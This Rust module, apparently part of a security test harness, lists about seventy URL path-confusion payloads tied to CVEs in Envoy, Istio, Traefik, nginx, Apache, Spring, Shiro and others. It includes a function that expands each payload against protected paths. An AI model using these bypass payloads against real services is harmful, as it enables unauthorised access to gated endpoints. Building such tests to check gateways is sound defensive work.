//! Targets that have got past the gates of others, each with where it is from.

/// `@` stands for a gated path without the slash at its start, `^` for the same without its last segment, `$` for that
/// segment.
const ATTACKS: &[(&str, &[u8])] = &[
    ("Envoy CVE-2021-29492: escaped slashes are no separators to the matcher", b"/x%2f..%2f@"),
    ("Envoy CVE-2021-29492", b"/x/..%2F@"),
    ("Envoy CVE-2021-29492", b"/x/..%5c@"),
    ("Envoy CVE-2021-29492", b"/x%5c..%5C@"),
    ("Istio CVE-2021-31920: several slashes, or escaped ones, and a policy by path", b"//@"),
    ("Istio CVE-2021-31920", b"/^//$"),
    ("Istio CVE-2021-31920", b"/^%2f$"),
    ("Istio CVE-2021-31920", b"/^%5c$"),
    ("Envoy CVE-2021-32779 and Istio CVE-2021-39156: a fragment in the path", b"/@#"),
    ("Istio CVE-2021-39156", b"/@#/../x"),
    ("Envoy CVE-2019-9901: paths were not normalised before they were matched", b"/x/../@"),
    ("Envoy CVE-2019-9901", b"/x/./../@"),
    ("NUL, at which C programs end", b"/@%00"),
    ("NUL", b"/@\0"),
    ("Traefik CVE-2025-32431: dot segments behind a PathPrefix matcher", b"/x/../@"),
    ("Traefik CVE-2025-47952: the same, encoded", b"/x/%2e%2e/@"),
    ("Traefik CVE-2025-66490: encoded restricted characters in the path", b"/^%2F$"),
    ("Traefik CVE-2025-66490", b"/^%5C$"),
    ("Traefik CVE-2025-66490", b"/@%3B"),
    ("Traefik CVE-2025-66490", b"/@%3Fx"),
    ("Traefik CVE-2025-66490", b"/@%23x"),
    ("oauth2-proxy CVE-2025-54576: skip_auth_routes met the query", b"/@?x=/network"),
    ("Heimdall: encoded slashes, which rules and upstream read differently", b"/api%2fv1%2fcrm%2fitems"),
    ("Heimdall: encoded letters beside letters in upper case", b"/%61PI/v1/crm/items"),
    ("gateways that match before they merge slashes", b"///@"),
    ("nginx off-by-slash: `location /static { alias … }`", b"/static../@"),
    ("nginx off-by-slash", b"/static..%2f@"),
    ("nginx: location without case, backend with case", b"/API/V1/CRM/ITEMS"),
    ("nginx and Node.js: a trailing byte that trim() takes off", b"/@%a0"),
    ("nginx and Node.js", b"/@\xa0"),
    ("nginx and Node.js", b"/@%09"),
    ("nginx and Node.js", b"/@%0c"),
    ("nginx and Flask: bytes that str.strip() takes off", b"/@\x85"),
    ("nginx and Flask", b"/@%85"),
    ("nginx and Flask", b"/@\x1f"),
    ("nginx and Flask", b"/@\x1c"),
    ("nginx and Spring: a tab or parameters", b"/@\t"),
    ("nginx and Spring", b"/@;"),
    ("Apache HTTP Server CVE-2021-41773: `.%2e`", b"/x/.%2e/@"),
    ("Apache HTTP Server CVE-2021-42013: encoded twice", b"/x/%%32%65%%32%65/@"),
    ("Apache HTTP Server CVE-2024-38474 (confusion): an encoded question mark", b"/@%3fooo.php"),
    ("Tomcat behind a proxy: `..;`", b"/x/..;/@"),
    ("Tomcat behind a proxy", b"/x/..;a=b/@"),
    ("Tomcat behind a proxy", b"/;x/@"),
    ("Spring Security CVE-2016-5007 and -9879: blanks and parameters", b"/@%20"),
    ("Spring Security CVE-2016-9879", b"/^;x=y/$"),
    ("Spring Security CVE-2022-22978: a line end that `.` does not match", b"/@%0a"),
    ("Spring Security CVE-2022-22978", b"/@%0d"),
    ("Spring MVC: a slash at the end", b"/@/"),
    ("Spring MVC: suffix patterns", b"/@.json"),
    ("Shiro CVE-2020-1957: `/..;/`", b"/network/..;/@"),
    ("Shiro CVE-2020-11989: encoded twice", b"/%252f@"),
    ("Shiro CVE-2020-13933: an encoded semicolon", b"/^/%3b$"),
    ("Shiro CVE-2020-17523: a blank", b"/^/%20$"),
    ("Shiro CVE-2020-17523: a dot", b"/^/%2e/$"),
    ("Shiro CVE-2022-32532: a line end in a segment", b"/^/%0a$"),
    ("Go net/http before 1.22 and gateways that keep %2F", b"/x%2F%2e%2e%2F@"),
    ("Rails: a format", b"/@.xml"),
    ("Werkzeug, waitress: slashes at the start", b"////@"),
    ("Django and Python regular expressions: `$` before a line end", b"/@%0A"),
    ("Fastify 4, find-my-way: `;` begins the query", b"/@;/x"),
    ("Fastify 4, find-my-way: `;` begins the query", b"/@;/../../../network"),
    ("Fastify: a path that a middleware (@fastify/middie) meets undecoded", b"/%61pi/v1/crm/items"),
    ("Fastify: a parameter that is empty", b"/api/v1/accounts//export"),
    ("Express: letter case of what a middleware guards", b"/aPi/v1/Crm"),
    ("WHATWG URL: `//host` is another host", b"//app/@"),
    ("WHATWG URL: `/\\host` is as well", b"/\\app/@"),
    ("RFC 9112 section 3.2.2: the absolute form", b"http://app/@"),
    ("RFC 9112 section 3.2.2: and its authority against Host", b"http://other/@"),
];

/// Every attack, on every one of `paths`.
pub(super) fn on(paths: &[&str]) -> Vec<Vec<u8>> {
    let aimed = |attack: &[u8], path: &str| {
        let path = path.trim_matches('/');
        let (above, last) = path.rsplit_once('/').unwrap_or(("", path));
        let aim = |byte: &u8| match byte {
            b'@' => path.as_bytes().to_vec(),
            b'^' => above.as_bytes().to_vec(),
            b'$' => last.as_bytes().to_vec(),
            byte => vec![*byte],
        };
        attack.iter().flat_map(aim).collect()
    };
    ATTACKS.iter().flat_map(|(_, attack)| paths.iter().map(|path| aimed(attack, path))).collect()
}
